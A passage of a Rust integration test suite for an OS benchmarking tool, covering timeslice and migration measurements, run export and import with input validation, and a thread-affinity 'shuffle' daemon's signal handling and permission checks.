    ] {
        let e = fails(&["activity", "--threshold", bad, "--db", db], 2);
        assert!(e.contains(why), "{bad}: {e}");
    }
    let e = fails(&["activity", "--samples", "0", "--db", db], 2);
    assert!(e.contains("--samples"), "{e}");
    let e = fails(&["activity", "--duration", "3 weeks", "--db", db], 2);
    assert!(e.contains("duration"), "{e}");
}

/// Processes whose command line mentions `marker` (our forked children carry the parent's).
#[test]
fn timeslice_sees_slices_and_switches_and_reaps_its_processes() {
    let _turn = exclusive();
    let (_dir, db, run, events) =
        run_with_trace(&["timeslice", "--procs", "2", "--duration", "400ms"]);
    let ms = run["measurements"].as_array().unwrap();
    let median = |name: &str| {
        ms.iter().find(|m| m["metric"] == name).unwrap()["summary"]["median"]
            .as_f64()
            .unwrap()
    };
    // Fair-class slices are a few ms (a tick or the kernel's base slice), switches microseconds.
    let slice = median("slice");
    assert!((100e3..200e6).contains(&slice), "slice {slice} ns");
    // A switch is reported only when the kernel counted as many switches on the cpu as we saw
    // hand-overs (beside other work, another task's slice sits between ours): else it says why.
    let switch = ms.iter().find(|m| m["metric"] == "switch").unwrap();
    match switch["status"].as_str().unwrap() {
        "skipped" => assert!(
            switch["reason"].as_str().unwrap().contains("kernel"),
            "{switch}"
        ),
        _ => {
            let v = switch["summary"]["median"].as_f64().unwrap();
            let limit = match oslab_testkit::busy(0.5) {
                None => 2e6,
                Some(_) => 200e6,
            };
            assert!((100.0..limit).contains(&v), "switch {v} ns");
        }
    }
    assert!(median("switches") >= 2.0);
    let tracks = events.iter().filter(|e| e["name"] == "thread_name").count();
    assert_eq!(tracks, 2);
    assert!(processes_mentioning(&db).is_empty());
}

#[test]
#[ignore = "needs real-time scheduling (root or CAP_SYS_NICE; CI runs it as root)"]
fn round_robin_slices_match_the_kernels_quantum() {
    let _turn = exclusive();
    assert!(
        oslab_os::affinity::fifo_permitted(),
        "real-time scheduling is not permitted here"
    );
    let (_dir, db) = temp_db();
    let out = stdout(&[
        "timeslice",
        "--procs",
        "2",
        "--duration",
        "700ms",
        "--policy",
        "rr",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]);
    let run = json(&out);
    let slice = run["measurements"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["metric"] == "slice")
        .unwrap()
        .clone();
    // The median slice: the first one is cut by the start, and one may be stretched by RT
    // throttling (sched_rt_runtime_us) or another real-time task preempting it.
    let measured = slice["summary"]["median"].as_f64().unwrap();
    let quantum = slice["prediction"]["value"].as_f64().unwrap();
    assert!(
        (measured - quantum).abs() < 0.2 * quantum,
        "{measured} vs {quantum}"
    );
}

#[test]
fn ctrl_c_during_timeslice_reaps_every_process() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    interrupted(
        &[
            "timeslice".as_ref(),
            "--procs".as_ref(),
            "3".as_ref(),
            "--duration".as_ref(),
            "20s".as_ref(),
            "--db".as_ref(),
            db.as_os_str(),
        ],
        Duration::from_millis(1200),
        || {
            let n = processes_mentioning(&db).len();
            assert!(n >= 4, "the processes should be running ({n} seen)");
        },
    );
    std::thread::sleep(Duration::from_millis(200));
    assert!(processes_mentioning(&db).is_empty());
}

#[test]
fn migrate_runs_both_kernels_pinned_and_moved_and_judges_the_difference() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let out = stdout(&[
        "migrate",
        "--size",
        "37",
        "--block",
        "16",
        "--runs",
        "3",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]);
    let run = json(&out);
    let ms = run["measurements"].as_array().unwrap();
    for kernel in ["naive", "blocked"] {
        // Pinned on A, the control pinned on B, and migrated from A to B.
        for variant in ["pinned", "pinned on B", "migrated"] {
            let t = ms
                .iter()
                .find(|m| {
                    m["metric"] == "time"
                        && m["params"]["kernel"] == kernel
                        && m["params"]["variant"] == variant
                })
                .unwrap_or_else(|| panic!("no time for {kernel} {variant}"));
            assert_eq!(t["summary"]["n"], 3);
        }
        // The cost against the control, in wall and in cpu time.
        for metric in ["migration_cost", "migration_cost_cpu"] {
            let cost = ms
                .iter()
                .find(|m| m["metric"] == metric && m["params"]["kernel"] == kernel)
                .unwrap();
            let note = cost["note"].as_str().unwrap();
            assert!(
                note.contains("significant") && note.contains("pinned on cpu"),
                "{cost}"
            );
        }
    }
    // The answer first (`show`'s main figure is a probe's first metric); every metric is one
    // the catalog lists, but the per-phase counters (`COUNTER phaseN`, `L2 miss rate phaseN`).
    assert_eq!(ms[0]["metric"], "migration_cost", "{}", ms[0]);
    let entry = oslab_core::catalog::entry("migrate").unwrap();
    for m in ms {
        let name = m["metric"].as_str().unwrap();
        assert!(
            entry.metric(name).is_some() || name.ends_with(" phase1") || name.ends_with(" phase2"),
            "{name} is not in the catalog's migrate entry"
        );
    }
    // The report says the costs under the time chart, each kernel's.
    let html = String::from_utf8(stdout(&[
        "report",
        "latest",
        "--output",
        "-",
        "--db",
        db.to_str().unwrap(),
    ]))
    .unwrap();
    let caption = html
        .split("<figcaption>")
        .find(|c| c.contains("Migration cost"))
        .unwrap_or_else(|| panic!("no migration cost under a chart"));
    assert!(
        caption.contains("naive ") && caption.contains("blocked "),
        "{caption}"
    );
    // The move is verified: the kernel counts a cpu migration across it, none when pinned.
    let moves = |variant: &str| {
        ms.iter()
            .find(|m| m["metric"] == "moves" && m["params"]["variant"] == variant)
            .map(|m| m["summary"]["min"].as_f64().unwrap())
    };
    use oslab_os::perf::{Counter, SW_CPU_MIGRATIONS, TYPE_SOFTWARE};
    let countable = Counter::open(TYPE_SOFTWARE, SW_CPU_MIGRATIONS, false).is_ok();
    match (moves("migrated"), moves("pinned")) {
        (Some(moved), Some(stayed)) => assert!(moved >= 1.0 && stayed == 0.0, "{moved} {stayed}"),
        _ => assert!(
            !countable,
            "cpu-migrations can be counted here but no moves were reported"
        ),
    }
}

#[test]
fn a_huge_multiply_warns_first_and_stops_on_ctrl_c_within_a_row() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let started = std::time::Instant::now();
    let err = interrupted(
        &[
            "migrate".as_ref(),
            "--size".as_ref(),
            "4096".as_ref(),
            "--kernel".as_ref(),
            "naive".as_ref(),
            "--runs".as_ref(),
            "1".as_ref(),
            "--yes".as_ref(),
            "--db".as_ref(),
            db.as_os_str(),
        ],
        Duration::from_millis(2500),
        || {},
    );
    // Minutes of work: said before it starts; stopped at once after the signal (Ctrl-C is
    // checked every cell: a row of a 12288 x 12288 multiply kept it waiting 10 s).
    assert!(err.contains("note: this takes about"), "{err}");
    assert!(started.elapsed() < Duration::from_secs(8), "{err}");
    assert!(!err.contains("KiB"), "{err}");
    assert_eq!(stored_runs(&db)[0].1, "interrupted");
}

#[test]
fn migrate_refuses_bad_arguments() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let e = fails(&["migrate", "--size", "0", "--db", db], 2);
    assert!(e.contains("--size"), "{e}");
    let e = fails(&["migrate", "--block", "0", "--db", db], 2);
    assert!(e.contains("--block"), "{e}");
    let e = fails(&["migrate", "--to", "4095", "--db", db], 2);
    assert!(e.contains("4095"), "{e}");
    let e = fails(&["migrate", "--counters", "cycles,bogus", "--db", db], 2);
    assert!(e.contains("bogus"), "{e}");
    // Errors name the options the user gave, not the ones `run` has.
    let e = fails(&["migrate", "--from", "0", "--to", "0", "--db", db], 2);
    assert!(e.contains("--to 0 is the measuring cpu (--from)"), "{e}");
    let e = fails(&["migrate", "--from", "4095", "--db", db], 2);
    assert!(e.contains("--from") && !e.contains("--cpu"), "{e}");
    // A run of days is not started unasked (no terminal here to ask on), and says so at once.
    let t = std::time::Instant::now();
    let e = fails(
        &["migrate", "--size", "4096", "--runs", "1000", "--db", db],
        2,
    );
    assert!(e.contains("minutes here") && e.contains("--yes"), "{e}");
    assert!(t.elapsed() < Duration::from_secs(20), "{:?}", t.elapsed());
    assert!(stored_runs(Path::new(db)).is_empty(), "nothing stored");
}

#[test]
fn export_and_import_move_a_run_between_stores_and_refuse_bad_files() {
    let _turn = exclusive();
    let (dir, db) = temp_db();
    let (db, other) = (db.to_str().unwrap(), dir.path().join("other.db"));
    let other = other.to_str().unwrap();
    stdout(&["activity", "--duration", "200ms", "--db", db]);
    let file = dir.path().join("run.json");
    stdout(&["export", "latest", "-o", file.to_str().unwrap(), "--db", db]);
    let original = json(&stdout(&[
        "show",
        "latest",
        "--json",
        "--samples",
        "--db",
        db,
    ]));
    let said = json(&stdout(&[
        "import",
        file.to_str().unwrap(),
        "--json",
        "--db",
        other,
    ]));
    assert_eq!(said["imported"][0]["run"], 1, "{said}");
    let copy = json(&stdout(&[
        "show",
        "latest",
        "--json",
        "--samples",
        "--db",
        other,
    ]));
    assert_eq!(original["measurements"], copy["measurements"]);
    assert_eq!(original["run"]["hostname"], copy["run"]["hostname"]);
    // The timeline came along: it exports as a trace from the new store.
    let trace = json(&stdout(&[
        "export", "latest", "--format", "perfetto", "--db", other,
    ]));
    assert!(trace["traceEvents"].as_array().unwrap().len() > 2);
    let csv =
        String::from_utf8(stdout(&["export", "1", "--format", "csv", "--db", other])).unwrap();
    assert!(
        csv.starts_with("run,host,started,repetition,probe,metric,"),
        "{csv}"
    );
    let header = csv.lines().next().unwrap();
    assert!(header.contains(",unit,status,reason,n,"), "{header}");
    // TSC ticks are named as such, never core cycles.
    assert!(
        header.contains(",tsc_ticks,") && !header.contains("cycles"),
        "{header}"
    );
    // What a data frame reads as numbers is numbers (or empty) in every row, and the unit a
    // person reads as one: GB/s, never the stored `gbps` (gigabits?).
    let names: Vec<&str> = header.split(',').collect();
    let numeric = [
        "n",
        "min",
        "median",
        "max",
        "ci_low",
        "ci_high",
        "predicted",
        "tsc_ticks",
    ];
    for line in csv.lines().skip(1).filter(|l| !l.contains('"')) {
        let cells: Vec<&str> = line.split(',').collect();
        for (name, cell) in names.iter().zip(&cells) {
            if numeric.contains(name) {
                assert!(
                    cell.is_empty() || cell.parse::<f64>().is_ok(),
                    "{name}={cell}: {line}"
                );
            }
            if *name == "unit" {
                assert!(*cell != "gbps", "{line}");
            }
        }
    }
    let long = String::from_utf8(stdout(&[
        "export",
        "1",
        "--format",
        "csv",
        "--samples",
        "--db",
        other,
    ]))
    .unwrap();
    assert!(
        long.lines().next().unwrap().ends_with(",unit,sample,value"),
        "{long}"
    );
    assert!(long.lines().count() > csv.lines().count());
    fails(&["export", "1", "--samples", "--db", other], 2);
    assert_eq!(
        csv.lines().count(),
        original["measurements"].as_array().unwrap().len() + 1
    );

    // Malformed, foreign and oversized files: a clear message, and the store does not change.
    let bad = dir.path().join("bad.json");
    std::fs::write(
        &bad,
        r#"{"schema":"oslab.run/1","run":{},"measurements":[]}"#,
    )
    .unwrap();
    let e = fails(
        &[
            "import",
            file.to_str().unwrap(),
            bad.to_str().unwrap(),
            "--db",
            other,
        ],
        1,
    );
    assert!(
        e.contains("schema") && e.contains("Nothing was imported"),
        "{e}"
    );
    std::fs::write(&bad, "not json").unwrap();
    let e = fails(&["import", bad.to_str().unwrap(), "--db", other], 1);
    assert!(e.contains("not JSON"), "{e}");
    let huge = dir.path().join("huge.json");
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(600 << 20)
        .unwrap(); // sparse
    let e = fails(&["import", huge.to_str().unwrap(), "--db", other], 1);
    assert!(e.contains("at most"), "{e}");
    assert_eq!(stored_runs(Path::new(other)).len(), 1);
}

#[test]
fn import_reads_only_bounded_regular_files() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    // /dev/zero reports size 0 and never ends: it is refused before any byte is read.
    let started = std::time::Instant::now();
    let e = fails(&["import", "/dev/zero", "--db", db.to_str().unwrap()], 1);
    assert!(e.contains("not a regular file"), "{e}");
    assert!(started.elapsed() < Duration::from_secs(10));
    // A FIFO with no writer does not block the import.
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("fifo");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let e = fails(
        &[
            "import",
            fifo.to_str().unwrap(),
            "--db",
            db.to_str().unwrap(),
        ],
        1,
    );
    assert!(e.contains("not a regular file"), "{e}");
}

#[test]
fn the_schema_file_in_the_repository_is_the_one_import_enforces() {
    let _turn = shared();
    let shipped = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../schema/oslab.run.v1.schema.json"
    ))
    .unwrap();
    assert_eq!(shipped, oslab_store::exchange::SCHEMA);
    let schema: Value = serde_json::from_str(&shipped).unwrap();
    assert_eq!(schema["properties"]["schema"]["const"], "oslab.run/1");
}

#[test]
fn shuffle_watches_a_contended_program_and_stores_its_decisions() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let bench = assert_cmd::cargo::cargo_bin("oslab");
    let out = stdout(&[
        "shuffle",
        "--interval",
        "100ms",
        "--json",
        "--db",
        db.to_str().unwrap(),
        "--",
        bench.to_str().unwrap(),
        "lockbench",
        "--threads",
        "4",
        "--locks",
        "1",
        "--iterations",
        "60000",
    ]);
    let run = json(&out);
    let ms = run["measurements"].as_array().unwrap();
    let lock = ms.iter().find(|m| m["metric"] == "lock_fraction").unwrap();
    // Four threads on one lock and two cpus wait for it (4% to 50% of their time, as busy as
    // the host is); the main thread, in pthread_join all along, does not count.
    let median = lock["summary"]["median"].as_f64().unwrap();
    assert!(median > 0.0 && median < 0.99, "{lock}");
    assert!(lock["note"].as_str().unwrap().contains("method"));
    // As root with the syscall tracepoints (tracefs), the exact method is the one in use.
    if is_root() && Path::new("/sys/kernel/tracing/events/syscalls").is_dir() {
        assert_eq!(lock["params"]["method"], "ebpf", "{lock}");
    }
    let conn = rusqlite::Connection::open(&db).unwrap();
    let intervals: i64 = conn
        .query_row(
            "SELECT count(*) FROM timeline WHERE kind = 'interval'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(intervals >= 1);
}

#[test]
fn shuffle_restores_every_affinity_it_changed_on_ctrl_c() {
    // Ctrl-C, two SIGTERMs at once as `timeout` sends them, a hang-up (an ssh session lost), a
    // user signal and an alarm: each restores everything.
    for signals in [
        &[libc::SIGINT][..],
        &[libc::SIGTERM, libc::SIGTERM][..],
        &[libc::SIGHUP][..],
        &[libc::SIGUSR1][..],
        &[libc::SIGALRM][..],
    ] {
        shuffle_restores_after(signals);
    }
}

/// A child that is killed and reaped however the test ends (a failed assertion included).
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn shuffle_restores_after(signals: &[i32]) {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let mut target = KillOnDrop(
        std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
            .args([
                "lockbench",
                "--threads",
                "3",
                "--locks",
                "1",
                "--iterations",
                "100000000",
            ])
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = target.0.id() as i32;
    std::thread::sleep(Duration::from_millis(200));
    let tids = || -> Vec<i32> {
        std::fs::read_dir(format!("/proc/{pid}/task"))
            .unwrap()
            .flatten()
            .filter_map(|e| e.file_name().to_str()?.parse().ok())
            .collect()
    };
    let before: Vec<_> = tids()
        .iter()
        .map(|&t| oslab_os::affinity::get_affinity(t).unwrap())
        .collect();
    let pid_text = pid.to_string();
    let err = signalled(
        &[
            "shuffle".as_ref(),
            "--pid".as_ref(),
            pid_text.as_ref(),
            "--interval".as_ref(),
            "100ms".as_ref(),
            // Three threads on one lock wait 4% to 50% of their time, as busy as the host is:
            // any wait regroups them, so that there is something to restore.
            "--threshold".as_ref(),
            "0.1%".as_ref(),
            "--db".as_ref(),
            db.as_os_str(),
        ],
        Duration::from_millis(300),
        // The signal comes once a thread was moved (up to 20 s: a busy host once started the
        // daemon so late that a fixed 0.9 s left it 0.1 s, too little to regroup anything).
        || {
            let start = std::time::Instant::now();
            while start.elapsed() < Duration::from_secs(20) {
                let now: Vec<_> = tids()
                    .iter()
                    .filter_map(|&t| oslab_os::affinity::get_affinity(t).ok())
                    .collect();
                if now != before {
                    break;
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        },
        signals,
    );
    assert!(err.contains("shuffles"), "{err}");
    // It did move threads (so there was something to restore).
    let conn = rusqlite::Connection::open(&db).unwrap();
    let shuffles: f64 = conn
        .query_row(
            "SELECT median FROM measurements WHERE metric = 'shuffles'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(shuffles >= 1.0, "{err}");
    let after: Vec<_> = tids()
        .iter()
        .map(|&t| oslab_os::affinity::get_affinity(t).unwrap())
        .collect();
    // The target keeps running, with every thread where it was.
    assert_eq!(before, after);
    assert!(target.0.try_wait().unwrap().is_none());
}

#[test]
fn a_second_shuffle_of_one_process_is_refused_while_the_first_runs() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let target = KillOnDrop(
        std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
            .args(["lockbench", "--threads", "2", "--iterations", "100000000"])
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = target.0.id().to_string();
    let shuffle = |db: &std::path::Path| {
        std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
            .args(["shuffle", "--pid", &pid, "--interval", "100ms", "--db"])
            .arg(db)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let mut first = KillOnDrop(shuffle(&db));
    // The first has claimed the process once it measures.
    std::thread::sleep(Duration::from_millis(700));
    let (_dir2, db2) = temp_db();
    let second = shuffle(&db2).wait_with_output().unwrap();
    let e = String::from_utf8_lossy(&second.stderr);
    assert!(!second.status.success(), "{e}");
    assert!(
        e.contains("already shuffles process")
            && e.contains(&format!("oslab pid {}", first.0.id())),
        "{e}"
    );
    // SAFETY: signalling our own child.
    unsafe { libc::kill(first.0.id() as i32, libc::SIGINT) };
    assert!(first.0.wait().unwrap().code().is_some());
}

#[test]
fn sigkill_of_shuffle_takes_the_command_it_started_with_it() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    // A number no other process has in its command line.
    let marker = format!("{}", 900_000_000 + std::process::id());
    let mut shuffle = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .args(["shuffle", "--interval", "100ms", "--db"])
        .arg(&db)
        .args([
            "--",
            assert_cmd::cargo::cargo_bin("oslab").to_str().unwrap(),
        ])
        .args(["lockbench", "--threads", "3", "--iterations", &marker])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Killed however the test ends: a failed assertion must not leave it and its command
    // spinning (SIGKILL: the command and its guard follow).
    struct Killed<'a>(&'a mut std::process::Child);
    impl Drop for Killed<'_> {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let shuffle = Killed(&mut shuffle);
    std::thread::sleep(Duration::from_millis(800));
    // shuffle, its command, and the guard of the command's process group (a fork of shuffle).
    assert_eq!(
        processes_mentioning(Path::new(&marker)).len(),
        3,
        "shuffle, its guard and its command"
    );
    drop(shuffle); // SIGKILL
    let t = std::time::Instant::now();
    while !processes_mentioning(Path::new(&marker)).is_empty()
        && t.elapsed() < Duration::from_secs(5)
    {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(processes_mentioning(Path::new(&marker)).is_empty());
}

#[test]
fn shuffle_refuses_targets_it_cannot_watch() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let e = fails(&["shuffle", "--pid", "2147483646", "--db", db], 2);
    assert!(e.contains("no such process"), "{e}");
    let e = fails(&["shuffle", "--db", db, "--", "/no/such/program"], 2);
    assert!(e.contains("cannot start"), "{e}");
    let e = fails(&["shuffle", "--db", db], 2);
    assert!(e.contains("--pid"), "{e}");
    // A share of thread time cannot pass 100%.
    for share in ["500%", "0", "1.5"] {
        let e = fails(
            &["shuffle", "--threshold", share, "--pid", "1", "--db", db],
            2,
        );
        assert!(e.contains("at most 100%"), "{share}: {e}");
    }
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

#[test]
#[ignore = "needs root and setpriv to run oslab as an unprivileged user (CI runs it as root)"]
fn without_bpf_permission_shuffle_says_so_and_falls_back_or_refuses() {
    let _turn = shared();
    assert!(
        is_root() && std::path::Path::new("/usr/bin/setpriv").exists(),
        "needs root and /usr/bin/setpriv"
    );
    if !common::nobody_can_run_oslab() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let db = dir.path().join("nobody.db");
    let nobody = |args: &[&str]| {
        common::oslab_as_nobody()
            .args(["shuffle", "--interval", "50ms", "--db"])
            .arg(&db)
            .args(args)
            .output()
            .unwrap()
    };
    let as_nobody = |method: &str| nobody(&["--method", method, "--", "sleep", "0.2"]);
    // Another user's process (init): refused before anything is measured or moved.
    let out = nobody(&["--pid", "1"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("may not change the affinity of process 1"),
        "{err}"
    );
    let out = nobody(&["--pid", "1", "--monitor-only"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("cannot read the threads of process 1"),
        "{err}"
    );
    // Asked for eBPF: a clear refusal naming the capability, and the started command reaped.
    let out = as_nobody("ebpf");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("eBPF") && err.contains("CAP_BPF"), "{err}");
    // Auto: the proxy, labelled, with the reason.
    let out = as_nobody("auto");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("measured by proxy") && err.contains("eBPF unavailable"),
        "{err}"
    );
}

#[test]
#[ignore = "needs sysbench, stress-ng and perf (scripts/test installs them)"]
fn shuffle_eval_runs_the_external_programs_users_know() {
    if !oslab_testkit::require(&["sysbench", "stress-ng", "perf"]) {
        return;
    }
    let _turn = exclusive();
    // Fixed-work benchmarks that yield the cpu: beside other work they take minutes (sysbench
    // threads over 10 under stress-ng --cpu 2), not seconds.
    if !oslab_testkit::require_quiet(1.0) {
        return;
    }
    let (_dir, db) = temp_db();
    let mut args = vec!["shuffle-eval", "--runs", "1", "--threads", "4", "--json"];
    let names = [
        "sysbench-mutex",
        "sysbench-threads",
        "stress-ng-mutex",
        "perf-futex-lock-pi",
    ];
    for n in names {
        args.extend(["--workload", n]);
    }
    args.extend(["--db", db.to_str().unwrap()]);
    let run = json(&stdout(&args));
    let ms = run["measurements"].as_array().unwrap();
    for n in names {
        for mode in ["with", "without"] {
            let t = ms
                .iter()
                .find(|m| {
                    m["metric"] == "time"
                        && m["params"]["workload"] == n
                        && m["params"]["mode"] == mode
                })
                .unwrap_or_else(|| panic!("no {mode} time for {n}: {ms:?}"));
            // One run a mode: a value, and no interval (too few samples), so noisy.
            assert_eq!(t["status"], "noisy", "{t}");
            assert!(
                t["note"].as_str().unwrap().contains("too few samples (1)"),
                "{t}"
            );
            let secs = t["summary"]["median"].as_f64().unwrap() / 1e9;
            assert!(secs > 0.0 && secs < 120.0, "{t}");
        }
    }
    // The programs with threads wait on their locks, and the daemon saw it.
    let lock = |n: &str| {
        ms.iter()
            .find(|m| {
                m["metric"] == "lock_fraction"
                    && m["params"]["workload"] == n
                    && m["params"]["mode"] == "without"
            })
            .unwrap()["summary"]["median"]
            .as_f64()
            .unwrap()
    };
    assert!(lock("perf-futex-lock-pi") > 0.05);
    assert!(lock("sysbench-threads") > 0.05);
}

#[test]
fn shuffle_eval_runs_with_and_without_and_says_whether_it_helped() {
    let _turn = exclusive();
    // Fixed-work runs with and without shuffling: beside other work they take minutes.
    if !oslab_testkit::require_quiet(1.0) {
        return;
    }
    let (_dir, db) = temp_db();
    let out = stdout(&[
        "shuffle-eval",
        "--workload",
        "lockbench",
        "--runs",
        "2",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]);
    let run = json(&out);
    let ms = run["measurements"].as_array().unwrap();
    for mode in ["with", "without"] {
        let t = ms
            .iter()
            .find(|m| m["metric"] == "time" && m["params"]["mode"] == mode)
            .unwrap();
        assert_eq!(t["summary"]["n"], 2, "{t}");
    }
    // Two pairs: a ratio, no interval (their range is none), so not `ok`.
    let r = ms.iter().find(|m| m["metric"] == "reduction").unwrap();
    assert!(r["note"].as_str().unwrap().contains("ratio only"), "{r}");
    assert_eq!(r["status"], "noisy", "{r}");
    let shown = String::from_utf8(stdout(&[
        "show",
        "latest",
        "--details",
        "--db",
        db.to_str().unwrap(),
    ]))
    .unwrap();
    assert!(shown.contains("no interval (n=2)"), "{shown}");
    assert!(!shown.contains("95% interval"), "{shown}");
    let e = fails(
        &[
            "shuffle-eval",
            "--workload",
            "nope",
            "--db",
            db.to_str().unwrap(),
        ],
        2,
    );
    assert!(e.contains("no workload"), "{e}");
}

#[test]
#[ignore = "needs root, to read a store as another user who may not write it"]
fn a_store_others_may_only_read_can_still_be_listed_shown_and_exported() {
    use std::os::unix::fs::PermissionsExt;
    // SAFETY: geteuid has no preconditions.
    assert_eq!(unsafe { libc::geteuid() }, 0, "this test needs root");
    if !common::nobody_can_run_oslab() {
        return;
    }
    let (dir, db) = temp_db();
    let d = db.to_str().unwrap();
    stdout(&["run", "timer.rdtsc", "--quick", "--db", d]);
    // The store is root's: nobody may read it and its directory, not write them.
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    let as_nobody = |args: &[&str]| {
        common::oslab_as_nobody()
            .args(args)
            .env("HOME", "/tmp")
            .output()
            .unwrap()
    };
    for args in [
        vec!["runs", "--db", d],
        vec!["show", "latest", "--db", d],
        vec!["export", "latest", "--format", "csv", "--db", d],
    ] {
        let out = as_nobody(&args);
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stdout).contains("timer.rdtsc") || args[0] == "runs");
    }
    // Writing still says why it cannot.
    let out = as_nobody(&["run", "timer.rdtsc", "--quick", "--db", d]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot use result store"));
}

#[test]
#[ignore = "needs root, to run as a user who may not write the temp dir"]
fn a_temp_dir_that_cannot_be_written_is_refused_before_measuring() {
    use std::os::unix::fs::PermissionsExt;
    // SAFETY: geteuid has no preconditions.
    assert_eq!(unsafe { libc::geteuid() }, 0, "this test needs root");
    if !common::nobody_can_run_oslab() {
        return;
    }
    let (dir, db) = temp_db();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let readonly = dir.path().join("readonly");
    std::fs::create_dir(&readonly).unwrap();
    std::fs::set_permissions(&readonly, std::fs::Permissions::from_mode(0o555)).unwrap();
    let out = common::oslab_as_nobody()
        .args(["run", "faults.file", "--quick", "--temp-dir"])
        .arg(&readonly)
        .args(["--db", db.to_str().unwrap()])
        .env("HOME", dir.path())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not writable"), "{err}");
    assert!(!db.exists(), "nothing is stored for a refused run");
}

#[test]
fn shuffle_of_a_process_that_becomes_a_zombie_ends() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    // Our child: it exits after a second and stays a zombie until this test reaps it.
    let mut target = std::process::Command::new("sleep")
        .arg("1")
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    let out = oslab()
        .args(["shuffle", "--monitor-only", "--interval", "100ms", "--pid"])
        .arg(target.id().to_string())
        .args(["--db", db.to_str().unwrap()])
        .timeout(Duration::from_secs(20))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(t.elapsed() < Duration::from_secs(6), "{:?}", t.elapsed());
    // Already a zombie: refused like a process that does not exist.
    let e = fails(
        &[
            "shuffle",
            "--pid",
            &target.id().to_string(),
            "--db",
            db.to_str().unwrap(),
        ],
        2,
    );
    assert!(e.contains("no such process"), "{e}");
    target.wait().unwrap();
}

#[test]
fn ctrl_c_stops_a_long_simulation_with_what_completed() {
    let _turn = shared();
    let (dir, db) = temp_db();
    // Half a million jobs: many seconds of simulation on any machine.
    let trace = dir.path().join("big.swf");
    stdout(&[
        "cpuman",
        "workload",
        "--mix",
        "W3",
        "--jobs",
        "500000",
        "--cpus",
        "64",
        "-o",
        trace.to_str().unwrap(),
    ]);
    let t = std::time::Instant::now();
    let words = [
        "cpuman",
        "simulate",
        "--cpus",
        "64",
        "--nodes",
        "32",
        "--trace",
        trace.to_str().unwrap(),
        "--db",
        db.to_str().unwrap(),
    ];
    let args: Vec<&std::ffi::OsStr> = words.iter().map(std::ffi::OsStr::new).collect();
    let err = interrupted(&args, Duration::from_millis(1500), || {});
    assert!(
        t.elapsed() < Duration::from_secs(20),
        "{:?}: {err}",
        t.elapsed()
    );
    // On a busy machine the signal can come while the trace is still read: a clean stop then
    // stores nothing (nothing was simulated) and says so; otherwise the jobs that completed.
    let stored = stored_runs(&db).len();
    if err.contains("interrupted while reading") {
        eprintln!("stopped while reading the trace (a busy machine): nothing stored");
        assert_eq!(stored, 0, "{err}");
    } else {
        assert_eq!(stored, 1, "{err}");
    }
}

#[test]
fn a_store_locked_at_save_time_keeps_the_results_in_a_file_to_import() {
    let (dir, db) = temp_db();
    let dbs = db.to_str().unwrap();
